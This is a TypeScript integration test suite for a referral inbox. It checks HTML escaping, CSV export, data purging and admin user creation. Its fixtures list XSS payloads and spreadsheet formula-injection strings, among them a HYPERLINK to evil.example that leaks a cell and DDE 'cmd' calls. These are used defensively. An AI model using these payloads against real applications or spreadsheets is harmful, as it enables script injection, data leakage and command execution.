import { Readable } from 'node:stream';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runAdmin } from '../../server/admin-cli.ts';
import { escapeHtml } from '../../server/inbox/html.ts';
import { canarySubmission } from './support/canaries.ts';
import { createTestDatabase, DATABASE_KINDS, type TestDatabase } from './support/harness.ts';
import { squash, startInboxApp, type Browser, type InboxTestApp } from './support/inbox.ts';

const DAY_MS = 24 * 60 * 60 * 1000;

/** Text that would run as script if a page ever put it in as markup. */
const XSS = [
  '<script>alert("xss")</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg onload=alert(1)>",
  '</textarea><script>alert(2)</script>',
  'javascript:alert(3)',
  '&lt;already-escaped&gt; {{constructor.constructor("alert(4)")()}}',
];
/** Text a spreadsheet would run as a formula if a CSV cell began with it. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example?x="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  // Full-width and invisible starts, which some spreadsheets fold or skip before a formula.
  '\uFF1DHYPERLINK("http://evil.example","Click")',
  '\u200B\u2060=1+1; SUM(A1)',
];

function hostileSubmission() {
  const base = canarySubmission();
  return canarySubmission({
    referrer: {
      ...base.referrer,
      name: FORMULAS[0] ?? '',
      role: FORMULAS[4] ?? '',
      phone: '=1+1',
      email: '<b>x</b>@evil.io',
    },
    concern: { ageBand: '0-4', reason: `${FORMULAS[1]}\n${XSS[1]}` },
    child: {
      ...base.child,
      firstName: FORMULAS[5],
      lastName: FORMULAS[3] ?? '',
      address: XSS[3] ?? '',
      household: XSS[5],
    },
    consent: { parentsAware: 'no', consent: 'not-sought', reasonNotSought: XSS[4] },
    strengths: { text: XSS[0] ?? '' },
    childVoice: { text: FORMULAS[2] ?? '' },
    tried: { text: XSS[1] ?? '' },
    practitionerLevel: 4,
    overrideRationale: `${FORMULAS[0]} ${XSS[2]}`,
  });
}

/** RFC 4180, enough for our own files: quoted cells, doubled quotes, CRLF rows. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const body = text.replace(/^\uFEFF/, '');
  for (let i = 0; i < body.length; i += 1) {
    const c = body[i] ?? '';
    if (quoted && c === '"' && body[i + 1] === '"') {
      cell += '"';
      i += 1;
    } else if (c === '"') {
      quoted = !quoted;
    } else if (!quoted && c === ',') {
      row.push(cell);
      cell = '';
    } else if (!quoted && c === '\r' && body[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i += 1;
    } else {
      cell += c;
    }
  }
  return rows;
}

async function admin(args: string[], env: Record<string, string>, stdin?: string) {
  let stdout = '';
  let stderr = '';
  const code = await runAdmin(args, {
    env,
    stdout: { write: (text: string) => (stdout += text) },
    stderr: { write: (text: string) => (stderr += text) },
    ...(stdin !== undefined && { stdin: Readable.from([stdin]) }),
  });
  return { code, stdout, stderr };
}

describe.each(DATABASE_KINDS)('hostile text, exports and retention on %s', (kind) => {
  let testDatabase: TestDatabase;
  let server: InboxTestApp;
  let browser: Browser;
  let hostileId: string;
  let token: string;

  beforeAll(async () => {
    testDatabase = await createTestDatabase(kind);
    server = await startInboxApp(testDatabase);
    ({ token } = await server.enrol());
    const response = await server.submit(token, hostileSubmission());
    expect(response.statusCode).toBe(201);
    hostileId = response.json<{ id: string }>().id;
    await server.addStaff('triager');
    browser = server.browser();
    await browser.signIn('triager');
    const decided = await browser.post(`/inbox/submissions/${hostileId}/decision`, {
      csrfToken: await browser.csrfToken(),
      expectedCount: '0',
      decidedLevel: '3',
      outcome: 'early-help',
      note: `${FORMULAS[0]} ${XSS[0]}`,
    });
    expect(decided.statusCode).toBe(303);
  });
  afterAll(async () => {
    await server.close();
    await testDatabase.drop();
  });

  it('renders every hostile answer as text on the referral page and in the list', async () => {
    for (const url of [`/inbox/submissions/${hostileId}`, '/inbox']) {
      const page = await browser.get(url);
      // The only script is the inbox's own file (the idle warning); nothing else may be markup.
      const body = page.body.replace('<script src="/inbox/assets/session.js" defer></script>', '');
      expect(body).not.toMatch(/<script|<img|<svg|<b>x/i);
      expect(body).not.toMatch(/<[a-z]+[^>]*\son(error|load)=/i);
      if (url === '/inbox') continue;
      for (const text of [...XSS, ...FORMULAS]) expect(squash(body)).toContain(squash(escapeHtml(text)));
      expect(body).toContain('&amp;lt;already-escaped&amp;gt;');
    }
  });

  it('exports the referrals as CSV with every formula-like cell escaped and every cell quoted as needed', async () => {
    const response = await browser.get('/inbox/export/submissions.csv');
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-disposition']).toMatch(
      /^attachment; filename="referrals-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    const rows = parseCsv(response.body);
    const [header, row] = rows;
    expect(rows).toHaveLength(2);
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[\s\u200B-\u206F]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/);
    const cell = (name: string) => row?.[header?.indexOf(name) ?? -1];
    expect(cell('referrer_name')).toBe(`'${FORMULAS[0]}`);
    expect(cell('referrer_phone')).toBe(`'=1+1`);
    expect(cell('child_last_name')).toBe(`'${FORMULAS[3]}`);
    expect(cell('referrer_role')).toBe(`'${FORMULAS[4]}`);
    expect(cell('child_first_name')).toBe(`'${FORMULAS[5]}`);
    expect(response.body).toContain(`"'${FORMULAS[5]}"`);
    expect(cell('concern')).toBe(`'${FORMULAS[1]}\n${XSS[1]}`);
    expect(cell('child_voice')).toBe(`'${FORMULAS[2]}`);
    expect(cell('decision_note')).toBe(`'${FORMULAS[0]} ${XSS[0]}`);
    expect(cell('referrer_reason_for_level')).toBe(`'${FORMULAS[0]} ${XSS[2]}`);
    // The short reference the referrer was shown, beside the id, so a phone call can be matched.
    const stored = await server.database.db
      .selectFrom('submissions')
      .select(['id', 'reference'])
      .executeTakeFirstOrThrow();
    expect(header?.slice(0, 2)).toEqual(['referral_id', 'reference']);
    expect(cell('referral_id')).toBe(stored.id);
    expect(cell('reference')).toBe(stored.reference);
  });

  it('purges referrals older than the period with their decisions; a dry run only counts', async () => {
    const old = (await server.submit(token, canarySubmission())).json<{ id: string }>().id;
    const receivedAt = new Date(Date.now() - 40 * DAY_MS).toISOString();
    await server.database.db
      .updateTable('submissions')
      .set({ received_at: receivedAt })
      .where('id', '=', old)
      .execute();
    await browser.post(`/inbox/submissions/${old}/decision`, {
      csrfToken: await browser.csrfToken(),
      expectedCount: '0',
      decidedLevel: '2',
      outcome: 'signpost-universal',
      note: 'Old note',
    });
    const ids = async () =>
      (await server.database.db.selectFrom('submissions').select('id').execute()).map((r) => r.id);

    const dryRun = await admin(['purge-submissions', '--older-than-days', '30', '--dry-run'], testDatabase.env);
    expect(dryRun.code).toBe(0);
    expect(dryRun.stdout).toMatch(
      /^Dry run: 1 referral received before \S+ \(with 1 decision\) would be deleted\. Nothing was deleted\.\n$/,
    );
    expect(await ids()).toHaveLength(2);

    const purged = await admin(['purge-submissions', '--older-than-days', '30'], testDatabase.env);
    expect(purged).toMatchObject({ code: 0, stdout: expect.stringMatching(/^Deleted 1 referral received before/) });
    expect(await ids()).toEqual([hostileId]);
    const left = await server.database.db.selectFrom('decisions').select('submission_id').execute();
    expect(left).toEqual([{ submission_id: hostileId }]);
    const audit = await server.database.db
      .selectFrom('audit_events')
      .select(['actor', 'action', 'details'])
      .where('action', '=', 'purged-submissions')
      .execute();
    expect(audit).toHaveLength(1);
    expect(audit[0]).toMatchObject({ actor: 'admin-cli' });
    expect(JSON.parse(audit[0]?.details ?? '{}')).toMatchObject({ olderThanDays: 30, submissions: 1, decisions: 1 });
    expect((await browser.get(`/inbox/submissions/${old}`)).statusCode).toBe(404);
  });

  it('adds staff from the admin CLI with a password read from stdin, hashed with scrypt at full cost', async () => {
    const password = 'three random words here';
    const added = await admin(['add-user', 'Front.Door', '--role', 'admin'], testDatabase.env, `${password}\n`);
    expect(added).toMatchObject({ code: 0, stdout: 'User front.door (admin) added. They can sign in at /inbox.\n' });
    const user = await server.database.db
      .selectFrom('users')
      .select(['role', 'password_hash'])
      .where('username', '=', 'front.door')
      .executeTakeFirstOrThrow();
    expect(user.role).toBe('admin');
    expect(user.password_hash).toMatch(/^\$scrypt\$ln=15,r=8,p=3\$/);
    expect(user.password_hash).not.toContain(password);
    expect((await server.browser().signIn('front.door', password)).statusCode).toBe(303);

    expect((await admin(['add-user', 'front.door'], testDatabase.env, `${password}\n`)).code).toBe(1);
    const short = await admin(['add-user', 'someone'], testDatabase.env, 'short\n');
    expect(short).toMatchObject({ code: 1, stderr: expect.stringMatching(/12 characters or more/) });
    expect((await admin(['add-user', 'someone', '--role', 'boss'], testDatabase.env, `${password}\n`)).code).toBe(2);
    expect((await admin(['purge-submissions', '--older-than-days', 'soon'], testDatabase.env)).code).toBe(2);
  });
});
